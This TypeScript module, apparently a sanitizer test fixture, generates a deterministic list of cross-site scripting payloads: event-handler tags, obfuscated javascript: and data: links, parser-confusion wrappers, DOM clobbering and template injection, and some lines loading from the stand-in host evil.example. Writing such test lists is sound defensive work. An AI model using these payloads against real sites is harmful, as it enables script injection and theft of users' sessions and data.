/**
 * Texts that try to run something in a reader's browser, each on its own. `RAN` is the code that they would run; a mark
 * on `window`, a dialog or a request to `ELSEWHERE` reveals any that ran. Always the same list, in the same order.
 */
const RAN = 'window.ran=1';
const ELSEWHERE = '//evil.example/x';

const TAGS = 'img video audio input body svg details marquee object iframe a button select math form p'.split(
  ' ',
);
const HANDLERS = 'onerror onload onfocus onmouseover ontoggle onanimationstart onbegin onpointerenter'.split(
  ' ',
);
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java&#9;script:',
  'java&#10;script:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&colon;',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
];
const LINKS = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<a href='${url}'>x</a>`,
  (url: string) => `<a href=${url}>x</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>x</button></form>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<table background="${url}"><tr><td>x</td></tr></table>`,
];
const WRAPS = [
  (inner: string) => inner,
  (inner: string) => `"><${inner.slice(1)}`,
  (inner: string) => `'>${inner}`,
  (inner: string) => `<svg>${inner}</svg>`,
  (inner: string) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner: string) => `<noscript><p title="</noscript>${inner}">`,
  (inner: string) => `<textarea></textarea>${inner}</textarea>`,
  (inner: string) => `<!-- --!>${inner}-->`,
  (inner: string) => `<xmp><p title="</xmp>${inner}">`,
  (inner: string) => `<template>${inner}</template>`,
];
const ODD = [
  `<script>${RAN}</script>`,
  `<scr<script>ipt>${RAN}</scr</script>ipt>`,
  `<script src="${ELSEWHERE}"></script>`,
  `</script><script>${RAN}</script>`,
  `\u2028<script>${RAN}</script>`,
  `<base href="${ELSEWHERE}">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<link rel=stylesheet href="${ELSEWHERE}">`,
  `<style>@import "${ELSEWHERE}";*{background:url(${ELSEWHERE})}</style>`,
  `<p style="background:url(${ELSEWHERE})">x</p>`,
  `<img srcset="${ELSEWHERE} 1x">`,
  `<a href="${ELSEWHERE}" ping="${ELSEWHERE}">x</a>`,
  '<a href="\\\\evil.example">x</a>',
  '<form><input name=attributes><input name=nodeName></form>',
  '<img name=getElementById><a id=body>',
  `{{constructor.constructor('${RAN}')()}}`,
  `\${${RAN}}`,
  `]]><img src=x onerror=${RAN}>`,
  `</title><script>${RAN}</script>`,
  `__NONCE__<script nonce="__NONCE__">${RAN}</script>`,
];

const handlerTags = TAGS.flatMap((tag) =>
  HANDLERS.map((handler) => `<${tag} src=x tabindex=1 autofocus ${handler}="${RAN}">`),
);
const links = SCHEMES.flatMap((scheme) => LINKS.map((link) => link(`${scheme}${RAN}`)));

/** Every payload of `ODD` as it is; tags with handlers and links with schemes in turn through all wraps. */
export const HOSTILE_PAYLOADS: readonly string[] = [
  ...ODD,
  ...[...handlerTags, ...links].flatMap((payload, index) =>
    [0, 3, 6, 8, 9].map((step) => (WRAPS[(index + step) % WRAPS.length] ?? WRAPS[0])?.(payload) ?? payload),
  ),
];
